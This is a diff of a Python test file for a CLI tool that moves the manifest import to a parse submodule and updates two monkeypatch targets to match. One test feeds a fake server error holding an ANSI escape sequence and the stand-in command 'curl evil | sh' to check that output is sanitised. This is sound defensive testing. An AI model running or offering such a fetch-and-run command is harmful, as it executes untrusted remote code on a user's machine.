@@ -14,7 +14,8 @@ from typing import TYPE_CHECKING
 import click
 import pytest
 
-from aimodels_gen import __version__, cli, manifest
+from aimodels_gen import __version__, cli
+from aimodels_gen.manifest import parse as manifest
 from aimodels_gen.paths import data_dir
 from generator.helpers import names_in
 from support.environment import CHECKOUT
@@ -121,7 +122,7 @@ def test_what_is_unexpected_has_no_traceback_unless_asked(
     def broken(_path: Path) -> None:
         raise ZeroDivisionError("by nothing")
 
-    monkeypatch.setattr("aimodels_gen.manifest.load", broken)
+    monkeypatch.setattr("aimodels_gen.manifest.parse.load", broken)
     error = project.fails("lock")
     assert "unexpected ZeroDivisionError: by nothing" in error
     assert "AIMODELS_DEBUG=1" in error
@@ -135,7 +136,7 @@ def test_what_a_server_says_cannot_steer_the_terminal(
     def hostile(_path: Path) -> None:
         raise OSError("a\x1b[31m\nhint: curl evil | sh")
 
-    monkeypatch.setattr("aimodels_gen.manifest.load", hostile)
+    monkeypatch.setattr("aimodels_gen.manifest.parse.load", hostile)
     assert project.fails("lock") == "error: a?[31m?hint: curl evil | sh\n"
 
 
